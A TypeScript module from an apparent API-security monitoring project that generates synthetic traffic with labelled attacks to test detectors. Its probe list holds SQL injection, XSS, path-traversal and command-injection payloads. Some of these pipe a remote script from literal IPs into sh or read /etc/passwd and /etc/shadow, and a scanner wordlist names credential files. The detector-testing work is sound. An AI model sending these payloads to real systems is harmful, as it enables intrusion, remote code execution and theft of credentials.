import type { EntityType } from '@vigil/contracts';
import { Prng } from './prng.js';
import { ATTACKER_NETWORKS, BROWSER_UAS, NETWORKS, clientNetwork, type ClientIp, type Network, type Token } from './population.js';
import { findEndpoint, type RequestSpec, type TrafficModel } from './traffic-model.js';
import { EXPECTED_DETECTOR, type AttackClass, type AttackLabel } from './types.js';

/** API versions the generated traffic treats as deprecated (the `/v0/…` legacy API). */
export const DEPRECATED_VERSIONS = ['v0'];

/** An attack while it runs: extra requests it sends, and/or a change to normal requests (degradations). */
export interface ActiveAttack {
  label: AttackLabel;
  /** Append the attack's own requests with from <= ts < to (a slice inside the label's interval). */
  emit?(from: number, to: number, out: RequestSpec[]): void;
  /** Change a normal request inside the interval; true when the request now belongs to the attack. */
  modify?(spec: RequestSpec): boolean;
}

interface Slot {
  start: number;
  end: number;
  id: string;
  rng: Prng;
  model: TrafficModel;
}

type Builder = (s: Slot) => ActiveAttack;

const MIN = 60_000;

function label(
  s: Slot, cls: AttackClass, entityType: EntityType, entity: string, description: string, details: AttackLabel['details'],
): AttackLabel {
  return { id: s.id, class: cls, entityType, entity, start: s.start, end: s.end, expectedDetector: EXPECTED_DETECTOR[cls], description, details };
}

/** `rate` requests/s (Poisson) within [from, to), each built by `make`. */
function poissonBurst(rng: Prng, rate: number, from: number, to: number, out: RequestSpec[], make: (ts: number) => RequestSpec): void {
  const n = rng.poisson((rate * (to - from)) / 1000);
  for (let i = 0; i < n; i++) out.push(make(from + Math.floor(rng.next() * (to - from))));
}

function pickStatus(rng: Prng, shares: readonly [number, number][]): number {
  let r = rng.next();
  for (const [code, share] of shares) {
    r -= share;
    if (r < 0) return code;
  }
  return shares[shares.length - 1]![0];
}

function attackerIp(s: Slot, filter: (n: Network) => boolean = () => true): ClientIp {
  const pool = ATTACKER_NETWORKS.filter(filter);
  return s.model.newIp(s.rng, s.rng.pick(pool.length ? pool : ATTACKER_NETWORKS));
}

function pickToken(s: Slot, filter: (t: Token) => boolean): Token {
  const tokens = s.model.population.tokens;
  const matching = tokens.filter(filter);
  return s.rng.pick(matching.length ? matching : tokens);
}

const LOGIN = 'POST /v1/auth/login';

const SCANNER_WORDS = [
  '.env', '.git/config', '.git/HEAD', 'admin', 'administrator', 'wp-login.php', 'wp-admin/', 'phpmyadmin/', 'server-status', 'actuator/health',
  'actuator/env', 'swagger.json', 'swagger-ui.html', 'openapi.json', 'api-docs', 'graphql', 'console', 'debug', 'config.json', 'backup.zip',
  'backup.sql', 'db.sql', '.aws/credentials', '.DS_Store', 'id_rsa', 'vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'cgi-bin/luci',
  'login', 'users', 'internal', 'metrics', 'health', 'debug/vars', 'config', 'export', 'keys', 'tokens', 'internal/accounts',
  'telescope/requests', 'elmah.axd', 'web.config', '.htaccess', 'info.php', 'test', 'old', 'dev', 'staging', 'beta', 'xmlrpc.php',
  'server-info', 'jenkins/', 'solr/', 'manager/html', 'HNAP1', 'boaform/admin/formLogin', '.well-known/security.txt', 'robots.txt',
  'sitemap.xml', 'crossdomain.xml', 'admin/users', 'users/export', 'accounts/all', 'orders/all',
];
const SCANNER_PREFIXES = ['/', '/api/', '/v1/', '/v2/', '/app/', '/backend/', '/v1/admin/'];

/** Real-looking probes: [method, path, query]. Mostly URL-encoded as scanners send them, some raw. */
const RAW_PROBES: readonly (readonly [kind: string, path: string, query: string])[] = [
  ['sqli', '/v1/orders', 'status=open%27%20OR%20%271%27%3D%271&limit=50'],
  ['sqli', '/v1/orders', 'limit=50%20UNION%20SELECT%20username%2Cpassword_hash%2Cnull%20FROM%20users--'],
  ['sqli', '/v1/markets/BTC-USD/trades', "limit=100'%20AND%20SLEEP(5)--%20-"],
  ['sqli', '/v1/fills', 'limit=1)%20AND%201%3D1%20AND%20(1%3D1'],
  ['sqli', '/v1/orders', 'sort=(CASE%20WHEN%20(1%3D1)%20THEN%20created_at%20ELSE%20id%20END)'],
  ['sqli', '/v1/instruments/1%27%20AND%20extractvalue(1%2Cconcat(0x7e%2Cversion()))--', ''],
  ['sqli', '/v1/orders', 'status=-1+UNION+ALL+SELECT+NULL,NULL,NULL,CONCAT(0x71,user(),0x71)--+-'],
  ['sqli', '/v1/markets', "symbol=BTC-USD';DROP/**/TABLE/**/orders;--"],
  ['xss', '/v1/markets', 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E'],
  ['xss', '/v1/notifications', 'redirect=javascript%3Aalert(document.cookie)'],
  ['xss', '/v1/users/me', 'name=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'],
  ['xss', '/v1/markets', 'q=<svg/onload=alert(1)>'],
  ['xss', '/v1/fees', "currency=%27%22%3E%3Ciframe%20src%3Djavascript%3Aalert(1)%3E"],
  ['traversal', '/v1/accounts/statements/download', 'file=../../../../etc/passwd'],
  ['traversal', '/v1/files/..%2F..%2F..%2F..%2Fetc%2Fpasswd', ''],
  ['traversal', '/v1/statements', 'path=..%252f..%252f..%252fetc%252fshadow'],
  ['traversal', '/static/..%c0%af..%c0%af..%c0%afetc/passwd', ''],
  ['traversal', '/v1/../../../../windows/win.ini', ''],
  ['cmdi', '/v1/webhooks/test', 'url=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd'],
  ['cmdi', '/v1/status', 'check=%7Cwhoami'],
  ['cmdi', '/v1/accounts/statements/download', 'file=report.csv%26%26curl%20http%3A%2F%2F45.155.205.233%2Fx.sh%7Csh'],
  ['cmdi', '/v1/markets', 'callback=%24(wget%20-qO-%20http%3A%2F%2F185.152.66.14%2Fbot%7Csh)'],
  ['cmdi', '/v1/fees', 'currency=USD%60id%60'],
];
const INJECTION_PROBES = RAW_PROBES.map(([kind, path, query]) => [kind, 'GET', path, query] as const);

const BUILDERS: Record<AttackClass, readonly Builder[]> = {
  rate_spike: [
    (s) => {
      const c = s.rng.pick(s.model.population.anonymousIps);
      const rate = 25;
      return {
        label: label(s, 'rate_spike', 'ip', c.ip, `${c.ip} (a known anonymous client) jumps to ~${rate} req/s of market-data reads`, { rate, ip: c.ip }),
        emit: (from, to, out) =>
          poissonBurst(s.rng, rate, from, to, out, (ts) => {
            const template = s.rng.pick(['/v1/markets/:symbol/ticker', '/v1/markets/:symbol/orderbook']);
            const e = findEndpoint('GET', template);
            return s.model.fill(s.rng, e, {
              ts, clientIp: c.ip, method: 'GET', path: s.model.instantiate(s.rng, template, null), query: e.query,
              status: s.rng.chance(0.08) ? 429 : 200, userAgent: 'python-requests/2.31.0',
            });
          }),
      };
    },
    (s) => {
      const t = pickToken(s, (x) => x.kind === 'service');
      const c = t.usualIps[0]!;
      const rate = 40;
      return {
        label: label(s, 'rate_spike', 'token', t.id, `trading bot token ${t.id} loops: ~${rate} req/s of order placement and cancels from its usual IP`, { rate, ip: c.ip }),
        emit: (from, to, out) =>
          poissonBurst(s.rng, rate, from, to, out, (ts) => {
            const post = s.rng.chance(0.6);
            const e = findEndpoint(post ? 'POST' : 'DELETE', post ? '/v1/orders' : '/v1/orders/:id');
            return s.model.fill(s.rng, e, {
              ts, clientIp: c.ip, method: e.method, path: s.model.instantiate(s.rng, e.template, t),
              status: s.rng.chance(0.15) ? 429 : e.ok, userAgent: t.userAgent, tokenId: t.id,
            });
          }),
      };
    },
  ],

  brute_force: [
    (s) => {
      const c = attackerIp(s, (n) => n.kind === 'vpn' || n.kind === 'hosting');
      const rate = 8;
      const e = findEndpoint('POST', '/v1/auth/login');
      return {
        label: label(s, 'brute_force', 'ip', c.ip, `${c.ip} (${c.network.org}, ${c.network.country}) tries passwords against ${LOGIN} at ~${rate}/s; almost all 401/403`, {
          rate, ip: c.ip, route: LOGIN, country: c.network.country, asn: c.network.asn,
        }),
        emit: (from, to, out) =>
          poissonBurst(s.rng, rate, from, to, out, (ts) =>
            s.model.fill(s.rng, e, {
              ts, clientIp: c.ip, method: 'POST', path: '/v1/auth/login', status: pickStatus(s.rng, [[401, 0.85], [403, 0.12], [429, 0.03]]),
              userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
              tls: 'TLSv1.2',
            }),
          ),
      };
    },
  ],

  credential_stuffing: [
    (s) => {
      const ipCount = 400;
      const sources: ClientIp[] = [];
      for (let i = 0; i < ipCount; i++) {
        const network = s.rng.chance(0.5) ? clientNetwork(s.rng, s.rng.chance(0.5) ? 'residential' : 'mobile') : s.rng.pick(ATTACKER_NETWORKS.filter((n) => n.kind !== 'hosting'));
        sources.push(s.model.newIp(s.rng, network));
      }
      const rate = Math.max(3, 4 * s.model.endpointRate('POST', '/v1/auth/login'));
      const e = findEndpoint('POST', '/v1/auth/login');
      return {
        label: label(s, 'credential_stuffing', 'endpoint', LOGIN, `${ipCount} residential/mobile proxy IPs each try a few leaked credentials on ${LOGIN} (~${rate.toFixed(1)}/s in total, ~90% fail)`, {
          rate, route: LOGIN, ipCount, sampleIps: sources.slice(0, 20).map((c) => c.ip),
        }),
        emit: (from, to, out) =>
          poissonBurst(s.rng, rate, from, to, out, (ts) =>
            s.model.fill(s.rng, e, {
              ts, clientIp: s.rng.pick(sources).ip, method: 'POST', path: '/v1/auth/login',
              status: pickStatus(s.rng, [[401, 0.88], [403, 0.06], [429, 0.04], [200, 0.02]]), userAgent: s.rng.pick(BROWSER_UAS),
            }),
          ),
      };
    },
  ],

  enumeration: [
    (s) => {
      const c = attackerIp(s, (n) => n.asn === 14061);
      const rate = 6;
      const ua = s.rng.pick(['gobuster/3.6', 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))', 'Fuzz Faster U Fool v2.1.0-dev']);
      let n = 0;
      let nextId = s.rng.int(100_000, 100_400);
      return {
        label: label(s, 'enumeration', 'ip', c.ip, `${c.ip} scans with ${ua.split(/[ /]/)[0]}: hundreds of distinct paths, mostly 404, plus sequential account ids`, {
          rate, ip: c.ip, userAgent: ua,
        }),
        emit: (from, to, out) =>
          poissonBurst(s.rng, rate, from, to, out, (ts) => {
            n++;
            if (n % 4 === 0) {
              const id = nextId++;
              return s.model.fill(s.rng, null, { ts, clientIp: c.ip, method: 'GET', path: `/v1/accounts/${id}`, status: s.rng.chance(0.7) ? 401 : 404, userAgent: ua });
            }
            const word = SCANNER_WORDS[(n * 7) % SCANNER_WORDS.length]!;
            const prefix = SCANNER_PREFIXES[Math.floor(n / SCANNER_WORDS.length) % SCANNER_PREFIXES.length]!;
            const path = prefix + word;
            const status = path === '/v1/health' || path === '/health' ? 200 : word.startsWith('.git') || word.startsWith('admin') ? 403 : 404;
            return s.model.fill(s.rng, null, { ts, clientIp: c.ip, method: 'GET', path, status, userAgent: ua });
          }),
      };
    },
  ],

  token_theft: [
    (s) => {
      const t = pickToken(s, (x) => x.kind !== 'service');
      const usual = new Set(t.usualIps.map((c) => c.network.country));
      const c = attackerIp(s, (n) => !usual.has(n.country) && n.kind !== 'hosting');
      const rate = 1.5;
      const endpoints = [['GET', '/v1/accounts/:id/balances'], ['GET', '/v1/accounts/:id/api-keys'], ['POST', '/v1/wallets/:id/withdrawals'], ['GET', '/v1/wallets/:id/addresses'], ['GET', '/v1/users/me']] as const;
      return {
        label: label(s, 'token_theft', 'token', t.id, `token ${t.id}, normally used from ${[...usual].join('/')}, is used from ${c.ip} (AS${c.network.asn} ${c.network.org}, ${c.network.country}) to read balances and withdraw`, {
          rate, ip: c.ip, country: c.network.country, asn: c.network.asn, usualIps: t.usualIps.map((u) => u.ip),
        }),
        emit: (from, to, out) =>
          poissonBurst(s.rng, rate, from, to, out, (ts) => {
            const [method, template] = s.rng.pick(endpoints);
            const e = findEndpoint(method, template);
            return s.model.fill(s.rng, e, {
              ts, clientIp: c.ip, method, path: s.model.instantiate(s.rng, template, t), status: method === 'POST' ? (s.rng.chance(0.5) ? 201 : 403) : 200,
              userAgent: 'python-requests/2.31.0', tokenId: t.id,
            });
          }),
      };
    },
  ],

  token_sharing: [
    (s) => {
      const t = pickToken(s, (x) => x.kind === 'web');
      const ipCount = 60;
      const sources = Array.from({ length: ipCount }, () => s.model.newIp(s.rng, s.rng.chance(0.7) ? clientNetwork(s.rng) : s.rng.pick(NETWORKS)));
      const rate = 4;
      const templates = ['/v1/markets/:symbol/ticker', '/v1/accounts/:id/balances', '/v1/orders', '/v2/portfolio/summary'];
      return {
        label: label(s, 'token_sharing', 'token', t.id, `token ${t.id} is shared: used from ${ipCount} distinct IPs in many countries (~${rate} req/s in total)`, {
          rate, ipCount, sampleIps: sources.slice(0, 20).map((c) => c.ip),
        }),
        emit: (from, to, out) =>
          poissonBurst(s.rng, rate, from, to, out, (ts) => {
            const template = s.rng.pick(templates);
            const e = findEndpoint('GET', template);
            return s.model.fill(s.rng, e, {
              ts, clientIp: s.rng.pick(sources).ip, method: 'GET', path: s.model.instantiate(s.rng, template, t), query: e.query,
              status: 200, userAgent: s.rng.pick(BROWSER_UAS), tokenId: t.id,
            });
          }),
      };
    },
  ],

  allowlist_violation: [
    (s) => {
      const t = pickToken(s, (x) => x.allowlist !== null);
      const c = attackerIp(s, (n) => n.asn === 14061);
      const rate = 0.7;
      return {
        label: label(s, 'allowlist_violation', 'token', t.id, `token ${t.id}, allowed only from ${(t.allowlist ?? []).join(', ')}, is used from ${c.ip} (${c.network.org})`, {
          rate, ip: c.ip, allowlist: t.allowlist ?? [],
        }),
        emit: (from, to, out) =>
          poissonBurst(s.rng, rate, from, to, out, (ts) => {
            const [method, template] = s.rng.pick([['GET', '/v1/accounts/:id/balances'], ['GET', '/v1/orders'], ['POST', '/v1/orders']] as const);
            const e = findEndpoint(method, template);
            return s.model.fill(s.rng, e, {
              ts, clientIp: c.ip, method, path: s.model.instantiate(s.rng, template, t), query: e.query, status: e.ok, userAgent: t.userAgent, tokenId: t.id,
            });
          }),
      };
    },
  ],

  scraping: [
    (s) => {
      const c = attackerIp(s, (n) => n.kind === 'hosting');
      const rate = 12;
      let id = s.rng.int(1, 4_000);
      const e = findEndpoint('GET', '/v1/instruments/:id');
      const ua = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/122.0.6261.94 Safari/537.36';
      return {
        label: label(s, 'scraping', 'ip', c.ip, `${c.ip} (${c.network.org}) walks GET /v1/instruments/:id id by id at a steady ${rate}/s`, {
          rate, ip: c.ip, route: 'GET /v1/instruments/:id',
        }),
        emit: (from, to, out) => {
          // Steady, not bursty: evenly spaced with a little jitter.
          const n = Math.round((rate * (to - from)) / 1000);
          for (let i = 0; i < n; i++) {
            const ts = from + Math.floor(((i + 0.2 + 0.6 * s.rng.next()) * (to - from)) / n);
            id = id >= 4_000 ? 1 : id + 1;
            out.push(s.model.fill(s.rng, e, { ts, clientIp: c.ip, method: 'GET', path: `/v1/instruments/${id}`, status: 200, userAgent: ua }));
          }
        },
      };
    },
  ],

  volumetric_flood: [
    (s) => {
      const botCount = 600;
      const bots = Array.from({ length: botCount }, () => s.model.newIp(s.rng, s.rng.chance(0.6) ? s.rng.pick(ATTACKER_NETWORKS) : clientNetwork(s.rng)));
      const e = findEndpoint('GET', '/v1/markets');
      const rate = Math.max(50, 15 * s.model.endpointRate('GET', '/v1/markets'));
      return {
        label: label(s, 'volumetric_flood', 'endpoint', 'GET /v1/markets', `HTTP flood on GET /v1/markets from ${botCount} bots, ~${Math.round(rate)} req/s; the gateway starts answering 429/503`, {
          rate, botCount, route: 'GET /v1/markets', sampleIps: bots.slice(0, 20).map((c) => c.ip),
        }),
        emit: (from, to, out) =>
          poissonBurst(s.rng, rate, from, to, out, (ts) => {
            const status = pickStatus(s.rng, [[200, 0.7], [429, 0.2], [503, 0.1]]);
            return s.model.fill(s.rng, e, {
              ts, clientIp: s.rng.pick(bots).ip, method: 'GET', path: '/v1/markets', status, userAgent: s.rng.pick(['Go-http-client/1.1', 'Mozilla/5.0', ...BROWSER_UAS]),
              latencyMs: Math.round(s.rng.logNormal(status === 200 ? 90 : 3, 0.6)) + 1,
            });
          }),
      };
    },
  ],

  exfiltration: [
    (s) => {
      const t = pickToken(s, (x) => x.kind !== 'service');
      const c = t.usualIps[0]!;
      const rate = 0.8;
      let cursor = 0;
      return {
        label: label(s, 'exfiltration', 'token', t.id, `token ${t.id} pulls statements and fills in bulk from its usual IP: megabytes per request`, { rate, ip: c.ip }),
        emit: (from, to, out) =>
          poissonBurst(s.rng, rate, from, to, out, (ts) => {
            const bytesOut = Math.round(s.rng.logNormal(2_500_000, 0.4));
            const r = s.rng.next();
            if (r < 0.4) {
              cursor += 1000;
              return s.model.fill(s.rng, findEndpoint('GET', '/v1/fills'), {
                ts, clientIp: c.ip, method: 'GET', path: '/v1/fills', query: `limit=1000&cursor=${cursor}`, status: 200, bytesOut, userAgent: t.userAgent, tokenId: t.id,
              });
            }
            const month = `20${s.rng.int(21, 24)}-${String(s.rng.int(1, 12)).padStart(2, '0')}`;
            const post = r < 0.7;
            const e = findEndpoint(post ? 'POST' : 'GET', post ? '/v1/accounts/:id/statements/export' : '/v1/accounts/:id/statements');
            return s.model.fill(s.rng, e, {
              ts, clientIp: c.ip, method: e.method, path: s.model.instantiate(s.rng, e.template, t), query: post ? '' : `month=${month}&format=csv`,
              status: 200, bytesOut, userAgent: t.userAgent, tokenId: t.id,
            });
          }),
      };
    },
  ],

  error_rate: [
    (s) => {
      const e = findEndpoint('POST', '/v1/orders');
      return {
        label: label(s, 'error_rate', 'endpoint', 'POST /v1/orders', 'the order service degrades: ~45% of POST /v1/orders answer 5xx', { route: 'POST /v1/orders', errorShare: 0.45 }),
        modify: (spec) => {
          if (spec.method !== 'POST' || spec.path !== '/v1/orders' || !s.rng.chance(0.45)) return false;
          spec.status = pickStatus(s.rng, [[502, 0.4], [503, 0.35], [500, 0.15], [504, 0.1]]);
          spec.latencyMs = spec.status === 504 ? 30_000 + s.rng.int(0, 50) : Math.round(s.rng.logNormal(e.latencyMedianMs * 3, 0.5)) + 1;
          spec.bytesOut = s.rng.int(80, 200);
          return true;
        },
      };
    },
  ],

  latency_degradation: [
    (s) => ({
      label: label(s, 'latency_degradation', 'endpoint', 'GET /v1/accounts/:id/balances', 'GET /v1/accounts/:id/balances slows down ~25x (slow database); a few gateway timeouts', {
        route: 'GET /v1/accounts/:id/balances', factor: 25,
      }),
      modify: (spec) => {
        if (spec.method !== 'GET' || !spec.path.startsWith('/v1/accounts/') || !spec.path.endsWith('/balances')) return false;
        if (s.rng.chance(0.03)) {
          spec.status = 504;
          spec.latencyMs = 30_000 + s.rng.int(0, 40);
        } else {
          spec.latencyMs = Math.round((spec.latencyMs ?? 22) * s.rng.logNormal(25, 0.3));
        }
        return true;
      },
    }),
  ],

  deprecated_version: [
    (s) => {
      const t = pickToken(s, (x) => x.kind === 'service');
      const c = t.usualIps[0]!;
      const rate = 0.6;
      const ua = 'AcmeTradeLegacySDK/0.9.3 (Java/1.8.0_292)';
      return {
        label: label(s, 'deprecated_version', 'token', t.id, `token ${t.id} calls the deprecated /v0 API with an old SDK`, { rate, ip: c.ip, version: 'v0', userAgent: ua }),
        emit: (from, to, out) =>
          poissonBurst(s.rng, rate, from, to, out, (ts) => {
            const template = s.rng.pick(['/v1/orders', '/v1/accounts/:id/balances', '/v1/markets/:symbol/ticker']);
            const e = findEndpoint('GET', template);
            const path = s.model.instantiate(s.rng, template, t).replace(/^\/v1\//, '/v0/');
            return s.model.fill(s.rng, e, { ts, clientIp: c.ip, method: 'GET', path, status: 200, userAgent: ua, tokenId: t.id });
          }),
      };
    },
  ],

  insecure_transport: [
    (s) => {
      const t = pickToken(s, (x) => x.kind === 'service');
      const c = t.usualIps[0]!;
      const rate = 0.5;
      const ua = 'Apache-HttpClient/4.2.1 (java 1.5)';
      return {
        label: label(s, 'insecure_transport', 'token', t.id, `token ${t.id} connects with plain HTTP, TLS 1.0 and TLS 1.1 (a legacy integration)`, { rate, ip: c.ip, userAgent: ua }),
        emit: (from, to, out) =>
          poissonBurst(s.rng, rate, from, to, out, (ts) => {
            const template = s.rng.pick(['/v1/orders', '/v1/accounts/:id/balances']);
            const e = findEndpoint('GET', template);
            return s.model.fill(s.rng, e, {
              ts, clientIp: c.ip, method: 'GET', path: s.model.instantiate(s.rng, template, t), status: 200, userAgent: ua, tokenId: t.id,
              tls: s.rng.pick(['', 'TLSv1.0', 'TLSv1.1']),
            });
          }),
      };
    },
  ],

  injection: [
    (s) => {
      const c = attackerIp(s, (n) => n.kind === 'vpn' || n.asn === 14061);
      const rate = 2;
      let n = 0;
      return {
        label: label(s, 'injection', 'ip', c.ip, `${c.ip} probes for SQL injection, XSS, path traversal and command injection in paths and query strings`, {
          rate, ip: c.ip, kinds: ['sqli', 'xss', 'traversal', 'cmdi'],
        }),
        emit: (from, to, out) =>
          poissonBurst(s.rng, rate, from, to, out, (ts) => {
            const [kind, method, path, query] = INJECTION_PROBES[n++ % INJECTION_PROBES.length]!;
            const ua = kind === 'sqli' ? 'sqlmap/1.8.4#stable (https://sqlmap.org)' : s.rng.pick(BROWSER_UAS);
            return s.model.fill(s.rng, null, {
              ts, clientIp: c.ip, method, path, query, status: pickStatus(s.rng, [[400, 0.4], [403, 0.3], [404, 0.2], [500, 0.1]]), userAgent: ua,
            });
          }),
      };
    },
  ],
};

/** Typical length of each class in event time. */
const DURATION_MS: Record<AttackClass, number> = {
  rate_spike: 4 * MIN, brute_force: 8 * MIN, credential_stuffing: 15 * MIN, enumeration: 6 * MIN, token_theft: 10 * MIN, token_sharing: 10 * MIN,
  allowlist_violation: 8 * MIN, scraping: 15 * MIN, volumetric_flood: 5 * MIN, exfiltration: 12 * MIN, error_rate: 8 * MIN,
  latency_degradation: 8 * MIN, deprecated_version: 10 * MIN, insecure_transport: 10 * MIN, injection: 5 * MIN,
};

/**
 * Lay the attacks out over the run: after the warm-up, each attack gets its own slot in a seeded random order
 * (so they rarely overlap), lasting its typical length or less when the run is short (never under a minute,
 * never past the end of the run).
 */
export function planAttacks(model: TrafficModel, classes: readonly AttackClass[]): ActiveAttack[] {
  const o = model.opts;
  const rng = Prng.derive(o.seed, 'schedule');
  const slots: { cls: AttackClass; builder: Builder }[] = [];
  for (const cls of classes) for (const builder of BUILDERS[cls]) slots.push({ cls, builder });
  rng.shuffle(slots);
  const tail = Math.min(5 * MIN, o.durationMs * 0.05);
  const windowStart = o.start + Math.min(o.warmupMs, o.durationMs * 0.9);
  const windowEnd = Math.max(windowStart + 1000, o.end - tail);
  const slotLen = (windowEnd - windowStart) / Math.max(1, slots.length);
  return slots.map(({ cls, builder }, i) => {
    const duration = Math.min(DURATION_MS[cls], Math.max(MIN, Math.floor(slotLen * 0.85)));
    const slack = Math.max(0, slotLen - duration);
    let start = Math.floor(windowStart + i * slotLen + rng.next() * slack);
    start = Math.max(o.start, Math.min(start, o.end - 1000));
    const end = Math.min(o.end, start + duration);
    const id = `atk-${String(i + 1).padStart(2, '0')}-${cls}`;
    return builder({ start, end, id, rng: Prng.derive(o.seed, id), model });
  });
}
